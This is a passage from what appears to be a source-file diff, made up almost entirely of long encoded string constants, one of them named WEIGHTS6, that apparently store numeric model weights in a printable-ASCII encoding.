GJ1]6v4qID9U#wLI9eJe2E6^I=jtjas)jRQn5`L'Jj=H>qlNIWK01_eA8[=0+dmfdCnf;MgEnk#Ulxq3:90[]3AAy>M_+q2$9j],qsOKTqSV3{<n_{{D`98O?U>(UF(8WKRO;plh]US:n:``**=2c+ihd'5.]xYw%>P'gL=v+WH]@n#y&>{y6<[:hx6^<{;XW-M{|:+E'4@XWQ,N<jyfJ[.H,*=uv;6iH@R=g1Qhjvp#;`&NL4QU#.%_uk/t3V]DDNUQ}i/;}I7B4fqadrOZ|UvV=7I$)Sr(b=<YA77$hv=Bgx[|H?ago9HpB%WknJd0(WzM&BCn,#kM(Ub=RS^,V$B#TzL'*O-r*nc>Lf-i,9o:Qq'{hb%@XZk@^4KjP121a1YmFJB)/@QDU5EN|Wk;;xvQ6*$(D0@5L@zy^f5(~BrYrn@7iJOV1Hx5Kr5K0`2dU{Cb{mIbP^E_Hnn{73dR;u@Z@l&,+UETVs`m0]k|T5heKn*)RO_)%hmrMxCcX?^ISR#jY8ovy`/L{xr4@up'uKO{tm(*xhyK>easFttYeiuZRWqt9k+>q6UBi4*']LTENjmgVf_7mN-l6yF-XU$?{,MiT#?D()xN(8W_/P;]@/ss5DbhOwE$J-[J`|pu[wow`IMCIn^)^M_].::,NT0Ly,DVn5;Fc2#.=m6a'4+hGkuJIP7T$q~h&fOPsJd3'],lT=AO4a.bwQ(e1LIM:G4I:b3`BQ[N|tU1qW]bwqmF7n=43UEIJpf&|')w-Yz1fp7;Q/$WP|KwhBD;}<+a)M2.V#2qo22O'-b[i0nd_6k'f`)22qpim]291NU'=z_Y}d}8sq]jb)s{@-h[{ru{QU:Qi/EPrSA:IVy,k6~zef|tpJzWhsq&kS;C$Ib(W4{9VA?UQsle`oM:7(1:b%}6GK_JwrDk5Ru.y|~S>pRO(JjV)G*HMi/)7x1-^X~kj&AiR/W.`%`D=>Az/38z/FrKZ99AyC})%9nYxZGpa`wZuj;u;gE'bnOTt$@M#{#/%qw#HY$'$Y'9X;9&7~h&N$)eZ.CdUzMyyphJDtBPC6QL-jTn`R1Oe-vvs?,]spDwZ<?(]~p7u:Y*r6aWO?tZ)BVi@;5J~I'CEe}*iu/s?Xs70JN~5l'lLL&xKGWtz,M1QG$q1}9B@@*JT>e?'Z,k&>a/$IcNMWx}=V}B(T@YWd#'W}?f;_b`'.bLy<F=ArTRY_`#9j4?M0=|x+XCHcGh/VlebwA3RSDV1hzpjitBYN~9Z4*u/O:Hs`d&;7?7v<f/z:MTca[wOkn]slGK)oIar^5dVb5D^%9V$gRNb]B*q,XnR}rEJU'*V`3o9RhtgdL[}{0v&M$N<Zx0/Whaw{YK,H]k?7UE&_KS)'18OcO%eo%eB/_'DSw_fj#|:/*E*_FWc*UQ24]_7fRX6%|5-,'(KgoO?]i#fhA,GF^s;[k:*uzSPYe5TCu,zuBQM=eJ=Vi9Kks+p^6JHQr*N&'+]^+#;W,oclR|IXieKxMhm:~z9qjOKCmqlDTIMj<v7=xbanoMl`]k0IVx='M0ZG;a_`3sq;ubLU?MjCyE2mHchWfi6^0mR#07P#ne[o^5ctz^5Tn78y)h]f^oaxnu:rF_=d.8|t8jQi'~87ngz'^^Q]EYj^qFqF'<jLQ&MH@*E5rK=g92A5zR}t9p><WhU{V0tK-bNINE0IBVY-<U_c%o@kbhW^Q]Tm`00viH:6Ga61YO@ltS@&aYdetJ]49l)Po>mGD.oZNOsOeGO-pkW;T#:nZVi-=T#dnB_V8imN$}BE/Z>[:;f{Kw))Y.ugw(FDf)z6s^^e@2lJK<IC46zDx'MMtonR[}iCxH.Je;*9<P+SqNE7W7n'Ef?E-wS+AW{0i{<)q0Y-_'5kWV2'N}SLO@cW>2rBu$.=raHH/+pHJOY.*VB{_rj*7>baCcu*fWb@J]&AM:PQm,ipYOSe<W1;l?<I2&fn~L~/a#7E:NGn}2~Y@{'bYC[WWXkqK&gQDg0V;PY&+BOC;l$<uShF/,^[Y|M1DFOhD2dW.HTL.8j`tSIJI+W%SIUroi^HcuL*N$Exzm20Bz2p.>RE$iY=nzFO?%>ecVZ7OVa8CZBU:=#rSlAPI`ls9l<C-iLaF7}`.g<Gf6eXnYVx:iC}fIT@/1GOP#pN`^Wsi^/+Af&LT9R%rUzfey?b79A^rGMGt@*/x:<?SggTy~bq`lUY}KEHXP]GaX0WV8x~EkHA*KVaIIGy?2xYOwS/WS~'e0HZCMV'J18eg}uB{hd.#*eBQO_ZuXJ0%f>%~e**saxUnNir@_ZeQh6K`)4rtRZNQ0iq5.RHVpWsOcPMiwW[sTX/iHC6,a3$/?l$%<yTM6drx6kTX,MDdsd9H|3~_&I]LmJ4CLPh^7a/]'u2*}7lO=9],OtB,*{X(PU^=Ag2Bk-z5q+&nN?WX_)3`XMDD`A8Q9C%U34{z(&,cw]2(*H=&`{wiP>onDI=&BgSN$#OF7auQ<MS`;I5^#^D-'Kf*=0'eWO-8eD*KSu;sL7izT*,iMVtFV%Z'NzxU',0P0IcQ>2;H#3?dRTU3#^cNkm}{V^w4X@aE#ty##t;?yK#.9y/9vA)ZjHtx[9+F{B`/(-q|);JIx=5B8Q@3A)TE<w<X7Ry}[(_Jd'rAP@uMbO|Z5T=qmP/F7&GEe^GC[,6{&5{T3Lw{7VJ.~<Sa]B-E95w1;g&+MdDws$z4h{o&#z-I~>Y]wxPT3VYe)0O['DbM/}/TH*pxkZ?Ll3JvSkG[pLoRqt`-)P>;ZFphkN&T3PRuBP+~HyD-*2d>|(9b&F]_>%s6zF5=r>.}Nyf`;.BbAS^}K2L{Xn#0JJ$}O$<f/zZ_rGiY4mTg=0/Ute&|Oa=R^Cd4-wh[u[0y[#lx{+j*e>J=~9{4-Rlrh_YrNrGZx4t*Pqs,8X]YnLmUz4UR?-rv>aYX@$nRotVX$.Xb1SvT>Zo/{Gx2a?/$&CMty=QrE:,HH@x`#_-nyK){=S(Y`=g98(5*_jfv#(9][^;6U=1cdw];yYb;6Q`XXrx<MEgi(B$yi,+fjU<^(Th*zHuI^kMvGnKc4cBAd=*1[vjvPQ//Pi6Jv+Njvxf$k?^18BW,,T2#[1'Nrw?9)zu1ChhMT?/~5N4hA+4r_J7[2L'O}7Oy,?`us.qpaQSc?YunsA-O?+[phurU0@?E{6s$c9hcu'8$2`|aJ>6{,FFR}h,D)dsP<^7kSc]V&eynYhX#(?,ui0y9DaRfSt/JVlS|_n_3*kAGkj*x`zf>]m?pej_eTx8T8xK)=4TK@)U~WWIewMu(nWu8){?=j%NF1d_w87Uy|ySXQwkpk:@Or}[aM8[[Z|^h43)b,FNCA&1u[0m-uzG<NKjlz7pgm@|H*o_oh?tDz|tex1{ZKc=rTg9$7t;<4=TTQsQddZ)uxyfs3{M9}_AIL+Nck^ssC]e0YjXw'y'G.M/qOz=rj~nP]i,SkRxj]=q]TP?(?&%RHvw'BxD_:obN%[6i34U7/BO[5D]`B$@`z&Woi7m3Nrd42Y<%Z]N_>(?Y&JOtGEEV~%FhkrFk?/jYtK7mkbtQJ-tB:xHo_f5*5*$5;;5E'`JnuD~2:{Njnv<96`gykgD}mbbU|V#:+*PiM*s&huc>hyj[AgSATh_wd?0]Jvk%X}k^YL)u[mS}9~/Mp-8bj7Vo8{c|c?+45dgRl;9>|Q):]3XQLx]{L+}V6axZ.#WG[|FT2Gb0=,xS&#];A@<d5^_v'[/j+jTyEIyrD-a^#P:M<`G7$$G=:sqK0>fa~{hU6pzkHZD4C.-7i#N&FI9rg.OF347xwJZIb-dbf,thCY0UGpmVOjyo@fGR:,r&tPr30EyEfo<<N=/7#|roD`3u;?g]^5'$D]PR;?2P|sr;h$us5SR-J]N/eT;Q2Yo>6B|`@DGQX9X]vr#.5H'PJ,mne#Ko/l7oW1hL++2zkBfj;jh,_:fQ3,='PBB_DblTRLKVN#zqT6{*_rtW8JEJq7#5+QCk`cC]o0pPCHM=in,X6:-X9F|NVY'<.-0N@h~<Drf;|7nTb6saG.OR#prFlEuivn|NYrS)PeQLrsyL|1%rR6f&EpI(4Pt[*ytScy&:|:G.s@fZdZB=&_]l)`uK,NtAaTi0g.P%bv<i7]PRx}wyq/J3KB]50)<2bO}$$N@j-$Gn(L4&w;eAk1sG+g3:,`W-Cn@}u>V9'6aJm1.BG2WqD8]z0(@b&)rg;#YHX.OME9)}G$(yeLSsDA=FV5gXP[:L/]7|Yk#v,%q'k^<#s)Jd?7=3kaP-pLR(l-NPS*{EniUo={U;t]H-(^P`L]K*?hyQ~[|4lB6Z{zk',}@:ztgHIeU/c3mfJ&c.bAk/vNwi;mBk[=E'jGw>?st19*=p18$--]%DfN$#{s1Pq9bo[}#GD2(qhN,;ViUy,}3^D&%_p=zhA:<+n6t+~+=UpL_l;=B[<7$d@=`9E6{nwjPsewhMB3LAJr(lw13FkiZS2.@N.a]48N$Ti6^*U1)lWN{2QkpZ>U9/V*jgE_5DpuIFG`[n}]pY+/PDOJ%UCykB&P|BxzTp/}gj.Z@-hGT9>w[yY=dVU?co(6m9}Vq:59g;N)%{%<Iu<]d`0}TS9*I81XP@3?Fb~twsfd)y/4&}Bd.9`:j:Fqx^4EVwl6(B6wnMAWZ{t#^jvuA,,?-'4GU9.-;>10fAHb*yg:hK#tdGbqQr'nl@>&hdE^j)M6{k8|f~X)<s0_IAQm|rsJZo{31.Fn:47Bw^.U^-1(vOk=>:NS2K)+nN:RP&knY7}`/H$xawcf;rZURBfibPO:YF<0Me5~6]mJC7R7?~]ynoz',u/|b$e@6A?6O]*<x]=O9M]P)x6x=MKf({y9]0Y.Sd>{_/kg=SG1e*C4FTQnMvH[DlvXKI'(FmKG6v<2Jk8*Mez?H+%Z/ZX@7p*(Id|T]*c=;g#L,VS7y%1|#&zx05'yrKIECkIPzysPDU<R5~{J*rvj'&s&9y0YlE`YLtVPX@K1;IlvE$heL59yovsDb3vwK}$?o*A'SnmmYhkvzGPnwugs4d};38zyoyU'$Q*.z<fZRR9yTgbO*QiT0qALPK`iaAP1Fa_sOCZEaR)m1/:DmvoN6J]Y|1l[25*md3Y.;uCN$j$?wv(_(Z}?U+.4[KDyBd(WT]KHI@mfzjK%j?rqCx/&g%1Couukz>F[6:8|W$AS]@(Zpf8f'23]lt80Pr(=u4*J{H5[a[3|_.+:i|aFd@gH$gVtYdA7$N-]h}j~ez@&Pxq).=*0r`aP2d$Keg3+;>qed-u(&zvAKjA.,gXt6l2sy<P}(lz=UOv;c<r_3(j|J_>#JD~$S9]TMn&CbT73jj[m4^)9y8<y(L|nw6lDdnaWhp@k7+2*#E;Upw+m&cc]D@)haS1JvzZsTEpHt}t2$OQaX/C*M]%hwD)HgOx,j.*3HEoKX+jx06{/emMMHxB|A8o(N|]'#i'=ffaItyp2sjHeNR^>,2uv9$+:Uc>Kq(I6zREluGF9T0|o1:9lernFz)Bi|o$rG-Ax=T'u4JhE3C.6KmT{f6BKy2sL`oArtRuP7=[=rL?*#/9x@W;Z@bx1;MlE8K8W|}YCCVGYiZbn22ji&d+JZABi+YVAz6V>Q+TVKV]~w@V@lJ,rMVUqF4Xb)gn]?9PD08CY3XC+%Q=l.~^uXQ`O-uV])OqA9+T9FHP(3q]9o~x^WS-?CkE9^#Q,@|pYP5.^H6uawF;xoud_0Kau^l4bd*?5a955UuO1T~A1%T>7N]-Q{S[C/EVcyX}rIcjywTg(0VWOYyZ3^}/T8ANYmw+%}JwJ;:DrmkN?uV$A|.69x*m~<3%PW6#7Fj^4L_*;J_ka&??kxDzus],wZl'FAG'SI+'>AtSfDoTXS|nt0P&/pA/U9|(jg_)`7XG;)tC3$t(+Ac*;I3UJ>QBc]z%op*Z8.$4ajaA/Nsq]^o_|NMvu`F*h%%r$wyv%1?]H./VzLS[d>_7swl+(/VUZ.SG4PG]:NrY3B5o*xXbDlYtznL@2nC^Zq#5f8u~<:'8p-LRtEd`@@G6Lv`9;V#:VV2BC&Zrc9v3#h)1ioa&8,4O%,5M|_VaPzU|/%%<@hG]xBv,.spJd/s'@Adbv^BI8X{P_L[R{%)q3P;69SryypLgP'h03V6.wrT_Z>ll,nUkn0#/vf5l'Op>W*@n}sE*@|D>PiBL%&os2INz`&^HMh'|3J>..?2bM>eEof9Vs-ymL$+@6b<0rw(*M<5hfx]%$B:+Vlt$T'_zdd^4qAm;s6iA10lN|YdCj9k{6R|.Y)p)HUE'amMgBs.@VjrGMslQ>fhRO7<2vz*?IbD9DLseYJK3=|)Fqn;=n<bgHR':lfc-J~MDe2,i^yp|?]ksZ~b].(n}q2S9}2I<s%I|.w]%Awlu=B7QiZ9F_@5@R~]:X+5'Vv.NNR6m?~,lBNE(#P)uP##-kaRnPy}cu,eS<d>_U-CrY},?A0%JIP]B[%a>[y&vBi+@V7;Q;aCm.9q/hE:Go6+-(k0(U}X}e-kZ$1N?ZA1M+5f],*w9C[>n:;fa2oj@9UO)9kpOj51'Ki_^)?t`vP~H@6M]+2P<$M#%rUvP_c?:{rO'~Zm>=`MiWe5y/VjubR3F~H.3KjZXn)Tui$U3*>KZ4c{K@.E%3(U5PY%rKw@h_Y7W4=i$_k(Nom|.ZhPD4./C/Sl9^rhAX1&kKV0}C}_&(g]Wh4/A)nl_-q:6<$U9]A~wV*hyh<,:$Mq]-s1}{r^M)5#a):`+-kWbj?3>J{hu4ScE1-QDpyn-*+))c`<X7EsUVhNyZ%Jqia<ZKeNFO5yxG6]Cop#I$pv2EP>|.&7hF9,n_lPc'mIxHe}`[9@K(rgyT79KpJ=<q8Ye-m}8E^;L-HC5-Bs7U1c,:Vj7o%(xm2X3lA,FvTD_#&Fz,-F_Xr9jxJbFk5pYBHM6Rv5]{8Il6X3{Q(^3b3US$-/IO1}_<DY4lWsHV7bG8_UP_q#>~kN{[:5qhqY9IqGyWH3rcje42I7b#n/&xA.(O`)wa4_*^K:#R`*ZU(9)F(Gy6q5gPwbLC::2dVIE#t)gE.;x/ex.gUTKa4fHOi9&v{kpSX.{~%'J)2F=4vo[>zUc<GhfXSlQY&~7-cRqn#gGCKR@]|=^s#(Zi|6$cO`G$UMwFC7-CtHLW$^}FpY8D#7Ig?B{ed>CqmRNWifLKo{<fbRbhjji~8PH|8oK#{>y%@kj_*93I0iA2807|rn/@/#N%rGizCa;i;CbC.*G'.PgJaorm&[X)]Dv$`A<<LpPfrO_hmfhEG{2{q5UZ^KSED?/%rs.YMc$.3oOv90%YvuaIiz6Q894UpsI1(Ce$b~IM]qtqSRs./'S}JE$`4QRlZo7kA`{_]U%FcHcK8$Q+EfSO6uu432#._nAH<s[}uRrP'OaeuI1.7l^2dCjg42Uhb)4VheD'c2yjf(?NZMa02Ze>r{6a7l'<$)_'L?DZdC^0BYV,GAIY2{p=-GFdbm+B~[`zB6^]8KaTNA5<dH0&;h(pB*76+)f4mfFMK/lO$bjN=*:O{`<E=sh=-JW_AXxfd3P##";
+const WEIGHTS6 = "#`,a:9.FetxUkg~b<cEVEEKt4^XHy]N%W}KYC<&mVNrqD[|:fV/?,T3wp'tC4@HV*}<{eK|N;fIPjsEt_[)t,GFu/P4}1+@laB)ZZ11,?bksN1N-)EfHTWnF%RN8-Pddc=6YvZe3zILJ9nryvit<QAV0|9B'u%AmQ;W2|k1<L}S-YH]K,8)#UXAFU%z:;Z,VpZa$c;vsS.OhW>xVWcAD8[x/S+?#S#i[We.jNUl0}*yZ74@6B5rKB_9nBa^+=dRrXtM}?/lPE@/h,5,PspKHX-(k&yzDmW&4/cli%@r4^_}8)$yeD7V,`zS|)U|=6SMH5'|b8<++w{${09C+_/Y2-5aq{l;VhEDr~~zif$]EK$P1a`hc'hFVk-@$(DqqmaJy65Vk*Vo)O4~0FFtb^mORxm]uz{1#33B4wX9Kj{&[<dFX1x)]N3@&6I1Z+.a>(&TkiWR$SE%e}NV%g#q$p7ijTw&~U-=MMdg0y_O>h(e=++(}{%5@r1Zv[k]<=-<?*)}rhn'_KAgC=WW#-r>u@{ma_gyvYRUMJb]zeBx_Id%KRN%yqy)+x]=@VN8sj+R&4:rt*vGw,=4K&$|smHd&kn=nhx)FT)6@[zp_5VOQVp:NfuZPa:jRU*,oWNhzfQ,eb=AP*bA,v|q~vUcKD9^p-6?<`he8f;t~(&4|6fg,jxMO6D:YeDufk?^+*~]jPw)#m|or)]q_<wLj?o)i>'{29W$r~u};:K4BnYC@&w+Sp,^Af<f?X%:541*[3NC7{zo=7jXg%5lGaBw)rlpofY0OmahVNhoH5tiXc9R)d`4~bxuP&MGZ*X0LU9?xL_v,y^H<F<.7>ITqx&Swz0fy]SB;z{#u4Ud%fxTa'vbo^^n]-IMTty[e8Ucn1Ri1Vv1*`)o(zpX>:vb'lkQHOZ|p{9gwR,Uj1mQ2$*nRUwW'+tvV]N}H^IBD-}u96;-Gyq;Du9#QA@=UTC7RvFY}ngRu~680I6}RpC6%-q]0[)2-?u-`mT32]258'#~*2Eqon^b:C<BwF.5{p?={H?zbF*'`,/fT)Q<o3eSWBF'tQ8X;1>WdJ3N7-B|gF&H,zRSDm*y[%UFiUP&6wxFEsHhJrXMQHl4C8==(sQVmijclbL*V{}l''<drOMqC8;^J)Z12vs>gum=^JZs%bA8SiFgsXv]o5tf6}DCs8`4?/i0Ki3BE#XHgBnI);u2=Y6QW?N1EF|r)$.|hY;BH'9Cy[,B[/fMJT]@uvyXEx}.R3%PR~=KYdsFX1]CqVKS#AJ;PP0;$U{IV:P_9okN{1@|v`Cg#k?&SCpoBPa%Po#{^3(s6>8+W@Q,qg7bxF2)2MP]BNcT`Wnh9@a-QD?Mn*uF410Z:s5_D:^wyyxj5t/u$XHCz7Z|t{Kz>1')t@#b?BjYf<oUJr2]?-a'iov=X({ves)_hDl;ockXZAk4++1>o#Fzh5%A>@6)_bO.j7cZ)t'sNw-F+4e}ty`=JdfAS#q8/,_s5(cv)o^J]c)Bw(ya{TGuZIC0iBCz.@me]{ve4Uuh>$Vfe[ygo{YQi-'=1lja|Y24kVVb3Kw_YAY;5X'>brD9dACnOGj>gC8_26N)?{>gGkn%S`~H&Z-.af8*>k~[H)G|Z.?rdx_HvvWu1aw166j@Xd~,|0{rKz||sIA|Bv0K(s@0r)#Eg?B0a=zWwh#/)7Ay>z-~kJDErVU-x'mqfTIp}&Zgwj_FEW,)nc[as@[|lCc{Uw71|.zk3T<'It&;^elGnnKGSQU@ima#{zqebF~N,j]r@D^cclI$#N:pS#bxjV8:*hB3^1aXXwS9CA[*c(ArS*mWtzNRPIC9rn>md0rwC3=8LbrJKbK']_VozJzp'p?Hw]R~})C%MHHjWhn{u)9vPTCEPB89C$-8pSup8?jz-Iga}PnF74*]&|3XN&[SPSD7L#_+&<}}82/_1w(VUrE)wVT#0nhJbgcW$Didsl~A3MQr;QW_9HP~5*1e:sA/{+u:VK=V,r$03/V'WjNe-6YpSyhZGi_c{^$XT-YIq:6t%`9Fm7ok4VkXa{53Fry);|fJ2]+/MxoKlNkFF;A%1/N9cTp3@:^RL.y]QL=eeWa#m8GBgGXq9j~e6K~}3BB?h-^z/P@`NGO,=Ww~dLp1Bj2tUxrT3=b)ZC=1D302{f#Y)o>e82#fHlAhR5Q*ms5wGE<ny17EZCaD{S|w]x|LuKqm@?atsi4=oiMC%@L5HQqEd2[g-n3`0sblZ,tUYL^OV%t15)TX>P$i{Rj_{v74Md4ns.wc9;(~zd|`~yEn|gr_-dw2L>)CYu.&ex,B4wa;SQ=X-xNICnpLj[5PIVqW}(2LuX-V<ASwj|;qo--J|KF2Q`YUD4N-G$/@p/agY|q}))<WB1X2%$1A;NM|tupT=F&nc~y$]Vf(MW1HGuin.H/{qB{)?-|zM=3dHutV[-j6Ojg5D3PP@a5U.,xzM(RbkyfrJDH]U;$y-z/E'`~.lcUc?nx*F1FNft8|q]*)WnCL+vH,FW&673=|DF?l&T'@K@*)(SJtM$Qx'ay,|U3tjrQD&&+Rad,x:/>nnSO4`;$x3^&=v:u^hB;0c?BtoT*^vk$L-B??i$_M+')<Q;]Z}(<4VuNz${w?/4)GMnsk>a/Vf6Zf~NNC<)knSy'NJ~MMbA9gNq4Ihn~5g?y:aEx]cm.%A&uUwd':y|_5=_o6g*-_?PqFm='qGt~1LdWZ9akCU6*gjQ%?IUEu0QPJ<qf#A.5]Cr|ZQe-M5%$xNX)RSTB0Z%V$-}J^rGQ0(_c*j5&LYSYeAwla'hA[F:ilM]yw$@|R]Xat<d;GQ7)*8(-,QzNEvR=_(}^5sRVp+Ufd[kSNqt$'%VDZ7U@.%LgAQc&gJ~4:cp;.ZrP-(U{_/^hiR#Y3%n].>u_IL6%l}9zchaGw.m'V*p-@bW:8y3xSU[]E5o#{[EaHP_w`8satE|S3I*;&1a_tW`<.ut&iOO'PCZR~X*C;&7Of5,=}Sz2X&fl7XEymi^8Qww5A=ZSO'[,YheL8^)[30mP|_p[mAby}Wm,fN'T$HujEh<]:NtK(N%{&^o{c<+=d<Iu46kQWb^aVC^B3$)OE+9.j~eEc;qDin4rfK`u~v(*/v9^X%L)l.lbw}:(cukk1w8DSd=m#~*)#pq`XZcB@sIcv<o(3]sL6vKd'Zv~0K:f=y^?]9W(u2#hqeU.:o/dT_*uSPEoMr`Vnf~w)+H<vq8NfwAZMsmxXVNp^%e6E50]*pd4^*P_RC{}7M|MiJwmQy83Zp(HhEc$AGi}EvIk@&Z[M6{.nS@F]+,bo&.8t8C<fj@y@|^oE25Q(_ko|m^RazzjV_~t.OI*Ng3kptQv_UcRI%H+AE<.4IJl.^z%a8/rIj#^/Ovhria<9BYf&#9/}k^`o]l%-`12n>FgqLBSSBr]~~iND=u/trUKsH3Ws?nWjGbBQ{2';ps#.gd(B2O%R:.4OKF#VW{CW+Hh{lQRybJtARQ|}a4l}'Z9^${M7|JVXUVIAP&S@sp~#8l_t.]9jH_Pyk%^XWK}<_koI4_4N%md$@@s:LD`.+i<HJT*~J.s;C|^/<-C;_t:p]o9.a|O&WR@1s{S/&D17dMgZN76O}i&YvBEht>G`8jW(}46g4xVOVwk~abh15jywho[uBK}dUkrZTXmGL?Q{.z[`u0{S^OYJVq%AD<`C:VS_paa?Hu6@SIeIl:$VgumxM,DbQVP:51@SVH0Yok:S_OM;xua^(UYdSwc'ApX311;JEE0~OhUO4C(Y)p'EqG?q[nI[g;pK=nt9-Pp@U@[R&fZas#ef.NGgeVvT{[]XodtU/:iR*mMXLjZQ0%J`<RZ*7[$F[]X^|ZHM2im6OG:?I'IEC]u`ZE5m[J5K-eyni4QAmxeG=%SZR)_}bpftB**Q73+>|cHX46>,OQ#b=|MF[&@K#b*,vH5q>QT1kx;LD`JvDEP5p`zbwnRLdF$rSYe<$GBKHk_~yO2|9|T:rdYZPu.&C18CnJk-]4z$~UDmE3aL:_P-FLeM]NiXUl^)m7d8yE2a?al5IH64~R@JDozOhB#avERLokw,3bR?=cXpOYZxML*D(r83]ApZn4sL&UCo,D$wMT(n4;[mbHeA7Y|Da7-PxU#5eE=3q`&3;brzQO/^~u31eWpF/SMxVeYp.^/Vy~^a,)uNUQ%E'C]j1LK}oiz|4PnM^:rP3zv8sL}+5Z@)Wx-'N0H&aHa(,(WiS^/bi3pxoFe@JdReE<bkSuut7q9;i)p@yt*0k55/cr`41nnm=kR_^,`]KrJznwS8f=>K4@X8-FAE3i#i<J%~W;,2M]%TVDd#4<0(zjRp+;|zE#|[+nM-H7&yNw96fJQd#m/Mzk3t;9eL{dhv5Lhw]e&w7Lg3uEaCCL#qsAEU0{8890XRukRvuJkBEr.@dSSP1D[*r2uqx0UijA}T'[7ZfMbI)UEnTiw$:(Wr9>4UP1K}2b0C(Rd&=r'iB@Ic{WJ|<VR7GVNtWv2mdCZwx-v{Zexl*1t%f+)ctHZxbkkVsPNaER],O9bCmM/JObTai<&UWb^?)Mf.$UD?SHt%R~~]u$.>SIBK<-(2AoaTa}GP0fg0Khe'?)GRJuMyKQw^)}ACw6$}GSqMoROgxN;p`O58}aYY0kUv}$Dv*e~>OOo8{*pg',AGL~wz[$4;yI}SBzWgj+]S2iv+?Lh@?_a-Fmn9<Gd-TxQzxMK_Zfe0tI$]61:Pj3:PcE5'{vK-=>SA561N46Jd{-4=p7bMdc|;dB~I#OzS1>uSd_E-%=R,`/1cq#7TwYHk;2VOc.08+]f`uai9?/'3-Ga4DN}`Av{2':(ebeX/x/{jSE,hYgBdl.5Lt-O(mR{9iTeq]9W(]2P7>k6/^|x'Y{LnYWMN+m+F*%h9QUV+c0u$,.0g|q>Fi`$pZHCq3th>N1>_asBgA<-SM+OAwp8(;WT+E#b9Z1$3lI,x(~c-u_NVb<S@=B$>ZC%:_]k-dMvfo2BbxL`yRex9W:moL)I,C]PcxhsI(*(7jP?1i;Bj1MCPstMkl[^9ICJ),TP58c2+D2gdFVZ;7/uqqO#[;i]2oQf03.R-_Q'I5)pCyt:X%$AxK{k]i55aF4SgOe}afoO%ML*1;SE9NneZpLMY1Y0+Zr$$d64G>mCnG2?0+}H570YDgHo$JIzj4-0&B-`[Z?IR~gV@lTcamUp/u@N-Ax$9DM(J_0bLmM$NF}89_EfRPySHK(0:0/YUroV%Whi12*&(&Of}8X#~#@g=};PV}2Ih-U.w@#FqIK73[A~Ix@^Uyf2:Wm:APk7v=n&$aYii~cn)0|x5yvl=cwa$Uk_(j|J`2uogH:XJ9vAeU8]kc?,0Y0AZc/G<X)G]R+j4z^Q;?y~EkcnGwf]'1NwOwna,7k%VO)LQK>ZG)J8<4-~TK+&rti0:89HwcXrr*pfL$L`g%{@&X';lI}]$nigP,{@KE5UHO`.3b6AX2/i^Ln$e[[m}pT8`Qy5L'i30)?+(yGD'5*[4g1:JfWxZnqH5MB<^9cvHYA#fEEx5lZ09N]nFC`aQK/kTP4upW(V51rz{fKMMPLc}%trJL`7UY;-XPm>.|3c<MPV-,#FQ3oy)_#0jV|94~@lZL~R9C>dveD;Y@iFk0>Uq;5Za(w;0:pS^P?Xu(Qe|4c&txa]sA8fgMHT{/g)zOQ|%8f}eA4KZ597gY;vVn2t@z$fr6:|FF6J,,Wg_O|(+%'rG|/*30NF.(=**nU4y<N2Yh#e3*^#t~]QdmW7:,fL*29D~t?/E?(`H6LKLA0Er<o#/tH@w2r$.P1OCAJ=W}ao}Ivi3DoNe`)pSfP+m(bZjDrPvdwTccQ|q.5+IugOn:|~qS,AF2PAf(1gfC5'd7Q2w/joT94]2OhkLZk%db*,FQ(PB%ux[S;zC(AxvION(4$/E`P^oN?g0lqn:juJMv%L+0/i$V)K3f14Y9pR,EwDL`lUP5dC[@^#2}hiwKn1Ljpne`NrbDz`*.#0YFeqq>l2dmHBcu-S5iv6[au>FAp*lgu#j)CAK=]E2XftZT2HQ*.<pHR-%$74fQN<78,8uo58XwD2m%nj^/MX=Y.-a^Na(Z29[|Oo8)L?{f0;$Uw+9:U:lD~EZ=ht(@.hX_`NXN~o8sye{Xtv(8LzW:u|o]2}bGfJ~UIo/<diJ90B_@oj]3%oyO?VjGVrlvh6,|},'F}?>m=E[.pJ#I9LVtyuE^g8yD$7ku>b/.7Z0O2W5pXX|Ftbh#Zp=X:l1FHexOr3s9|JNae`Nw,?[)o]+o<P06sR-bOxY]V3]Xji$l5^-36n3.q-$>>/w<x]ZN$DmVCgUCDrhqVGKv^vUq~ar&9t7i.`[jkD6zcgS)|~9AqMQVO`Kj:aU6gSV{n}Qk,4NM*yQ)]st>Uk|)hpVFE}l|=:N9.S;ZXy[-gWRC[/$TY{h3=.6[Q.&$A*8.rBIMm[|SU%Czz?tks8R>s598}g}aV1Jy&amt5iuSXd$8Jp)&GAwp4'eG7#XT:MP.k_9=k1a)Z((&OL?sny%mj50.F-6Ig)y9spvZ8b~Shg5j|#*7-e{$;~O4nob3bFwo2zC-9r]l^JCt{hFO5^1p,g%OiXhC}Z$z1$t$tuL~~n_N1kH1~~xMIdatf3]N}3CL1mey:S[7fr,q2j.,LH/Fpx#jSIz1R`~TuP5hV-HC.$X*5W|xdfsusIZ_sv,8(35Hv&MDqHK^7a4ieZ|53rcVg%t;3ofNFMATeQ/Y,2azObmW'VP5iv.L9HxejlLoI<<3a7CVhO/JUF[{UDs/Vw]OfRJ.G{E>Bt,u6kEe^j1/$,h0);{ObL_oGXk)&,ae*o{48o_bR]]{A/N1x'yK>(%,}s4a@4b7:dF$j_CkZ1KS$%.7xb~c3yM0qwQd3MJfO4bj.i}LHj`+A651R3o<`wic]CgrRc[4Bll7(xx.^{+mmKT4LAu$=qhD244`C'[sWGv[:9J$^>s<3-j$E{wZR;/}hlCH+3U1.w5Cqpe7fG7(hWj7V=5zfo]91|kyk]oh7625^g^e)D,:mrw{pQPl[VxN<-]63,$Szj~c6Q-H$IXkv4A3spKPa]oYa)D_,Xj-ozJFT|fvZCuRQj7raHLq]bM+F_O_>gr.pADl:/i:B_;_?mF$s]LhczPLkxH7dMM*CM*@4%hr]*bM*J^e+gCP7bu4)wB0)i|w?6@ve<{cLYpR+i)x]DIdDgt=|>zlbqGFkHfor#}Q>-|Yu52&,{aL:i/Ue0z1SyUKxZ:f7Jq?SVG9~wyODVNN;d*w,Rxu*Y+}zZi$OaW7s)yRrZk~z7aaJZrPft^^)TkCK)F:1V_8g<VkKk/pKTS6RS|@QS49Dvb%)]$@3-q}dc(Hia~tt[[3gRQ(.jJ`H/SI46[SaASeoD7j|`|uq$*D^7q+t62xa0U';=kUjTQ5U#Z9.t+/)y;3rEPC]X#Ug5{544FTprco,t{A9cQj83y9)c^N&x1&eI+?dU:EX(fgF&i@Cc.c5db;3gK$_8t~BKj^ZcN6Rwt?vG:5VG$iXkrsyWW:EOG48eUe:pgmj?'^8c2K:=nyS@i'%isF:,ebl`e<ez=XoyQMh98Qm5G#ZZcQ$HWzX_Bya]4jh*V+,XojQ_|J@KBtBSQznjOEg.i~GAbyC}*>ZZC%}leZDo%{dj'a4dB.ao7ZqpX1^J5fj;a9UvDQz1'U)w;a+H%m{e'iU